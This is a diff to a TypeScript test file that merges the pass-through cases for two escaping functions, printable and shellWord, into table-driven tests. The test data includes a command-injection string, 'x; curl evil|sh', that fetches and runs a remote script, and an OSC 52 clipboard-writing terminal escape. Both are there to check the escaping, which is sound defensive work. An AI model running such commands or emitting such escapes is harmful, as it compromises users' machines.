@@ -68,6 +68,8 @@ describe("an error", () => {
   });
 });
 
+const asItIs = (text: string): [text: string, shown: string] => [text, text];
+
 describe("printable", () => {
   it.each([
     ["\u001b]52;c;ZXZpbA==\u0007", String.raw`\u001b]52;c;ZXZpbA==\u0007`],
@@ -79,14 +81,9 @@ describe("printable", () => {
     ["\ud83d and \ude00", String.raw`\ud83d and \ude00`],
     ["100 %\rdone", String.raw`100 %\u000ddone`],
     ["one\r\ntwo", "one\ntwo"],
+    ...["one\n\ttwo\n", "Zürich, 東京, שלום, ✓ 😀", String.raw`C:\u001b`, ""].map(asItIs),
   ])("shows %j as %j", (text, shown) => {
     expect(printable(text)).toBe(shown);
-  });
-
-  const plain = ["one\n\ttwo\n", "Zürich, 東京, שלום, ✓ 😀", String.raw`C:\u001b`, ""];
-
-  it.each(plain)("leaves %j as it is", (text) => {
-    expect(printable(text)).toBe(text);
   });
 
   it.each(unseenCharacters)("shows %s", (_, character) => {
@@ -128,13 +125,8 @@ it("printableData shows what is in names and texts at any depth, and leaves the 
 });
 
 describe("shellWord", () => {
-  const words = ["run_1", "8f14e45f-ceea", "http://127.0.0.1:8080/api/v4", "a@b.example"];
-
-  it.each(words)("leaves the plain word %s as it is", (word) => {
-    expect(shellWord(word)).toBe(word);
-  });
-
   it.each([
+    ...["run_1", "8f14e45f-ceea", "http://127.0.0.1:8080/api/v4", "a@b.example"].map(asItIs),
     ["x; curl evil|sh", "'x; curl evil|sh'"],
     ["it's", String.raw`'it'\''s'`],
     ["", "''"],
